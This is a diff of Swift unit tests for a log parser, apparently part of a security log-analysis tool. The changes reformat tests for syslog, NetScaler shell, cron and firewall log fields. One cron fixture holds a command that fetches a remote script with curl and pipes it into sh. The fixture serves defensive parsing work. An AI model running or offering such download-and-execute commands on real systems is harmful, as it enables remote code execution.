@@ -21,8 +21,10 @@ struct SyslogTests {
         (line: "2020-01-13T08:28:31.123456+01:00 ns1 sshd[7]: text", source: "ns1", process: "sshd", pid: "7"),
         (line: "<134>1 2020-01-13T08:28:31Z ns1 app 77 ID1 - text", source: "ns1", process: "app", pid: "77"),
         (line: #"<134>1 2020-01-13T08:28:31Z ns1 app - - [a@1 b="]\""] text"#, source: "ns1", process: "app", pid: nil),
-        (line: "<134> 2020-01-13T08:28:31+00:00Z ns1 app 77 ID1 [a b=\"c\"] text", source: "ns1", process: "app",
-            pid: "77"),
+        (
+            line: "<134> 2020-01-13T08:28:31+00:00Z ns1 app 77 ID1 [a b=\"c\"] text", source: "ns1", process: "app",
+            pid: "77"
+        ),
     ])
     func readsHostProgramAndProcess(line: String, source: String?, process: String?, pid: String?) throws {
         let event = try #require(read(line, as: .syslog))
@@ -75,25 +77,34 @@ struct SyslogTests {
     }
 
     @Test(arguments: [
-        (field: "CommandLine", line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) shell_command="id "x" y""#,
-            value: #"id "x" y"#),
-        (field: "User", line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) shell_command="id""#,
-            value: "root"),
-        (field: "return_code", line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) return_code="1""#,
-            value: "1"),
+        (
+            field: "CommandLine",
+            line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) shell_command="id "x" y""#,
+            value: #"id "x" y"#
+        ),
+        (
+            field: "User", line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) shell_command="id""#,
+            value: "root"
+        ),
+        (
+            field: "return_code", line: #"Jan 19 23:40:00 <local7.notice> ns bash[1]: root on (null) return_code="1""#,
+            value: "1"
+        ),
     ])
     func readsCommandsOfAnAppliance(field: String, line: String, value: String) {
         #expect(values(of: field, in: line, as: .netscalerShell) == [value])
     }
 
     @Test func readsCommandsOfCron() {
-        let line = "Jan 19 23:00:06 <cron.info> ns1 /usr/sbin/cron[14451]: (nobody) CMD (curl http://192.0.2.1/ci.sh | (sh))"
+        let line =
+            "Jan 19 23:00:06 <cron.info> ns1 /usr/sbin/cron[14451]: (nobody) CMD (curl http://192.0.2.1/ci.sh | (sh))"
         #expect(values(of: "CommandLine", in: line, as: .cron) == ["curl http://192.0.2.1/ci.sh | (sh)"])
         #expect(values(of: "user", in: line, as: .cron) == ["nobody"])
     }
 
     @Test(arguments: [
-        (field: "deviceVendor", value: "Citrix"), (field: "name", value: "APPFW_JSON"), (field: "src", value: "192.0.2.1"),
+        (field: "deviceVendor", value: "Citrix"), (field: "name", value: "APPFW_JSON"),
+        (field: "src", value: "192.0.2.1"),
         (field: "msg", value: "two words"), (field: "act", value: "blocked"), (field: "c-ip", value: "192.0.2.1"),
         (field: "cs-method", value: "GET"), (field: "cs-uri-query", value: "http://10.0.0.1/a"),
     ])
@@ -109,7 +120,8 @@ struct SyslogTests {
         #expect(read(fortinet, as: .syslog)?.time == "2020-01-13T08:28:31Z")
         #expect(read(fortinet, as: .syslog)?["source"] == "fw1")
         #expect(values(of: "cs-uri-query", in: fortinet, as: .syslog) == ["/a b"])
-        let structured = #"<134>1 2020-01-13T08:28:31Z srx RT_IDP - ATTACK [junos@2636 source-address="192.0.2.1"] text"#
+        let structured =
+            #"<134>1 2020-01-13T08:28:31Z srx RT_IDP - ATTACK [junos@2636 source-address="192.0.2.1"] text"#
         #expect(values(of: "source-address", in: structured, as: .syslog) == ["192.0.2.1"])
         #expect(values(of: "no-such-name", in: structured, as: .syslog) == nil)
     }
